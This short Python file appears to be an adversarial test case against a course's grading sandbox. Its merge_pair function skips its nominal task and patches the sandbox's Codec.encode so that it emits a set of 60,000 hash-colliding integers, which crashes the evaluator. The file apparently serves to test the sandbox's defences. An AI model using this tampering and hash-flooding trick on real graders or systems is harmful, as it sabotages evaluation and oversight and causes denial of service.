# attack our wall: a set whose sixty thousand members all have one hash
# expect merge_pair: crashed
import sys


def answer(codec, value):
    prime = (1 << 61) - 1
    return ["s", [["i", hex(k * prime)] for k in range(1, 60_000)]]


def merge_pair(ids, pair, new_id):
    sys.modules["course_utils.jail.talk.codec"].Codec.encode = answer
    return ids
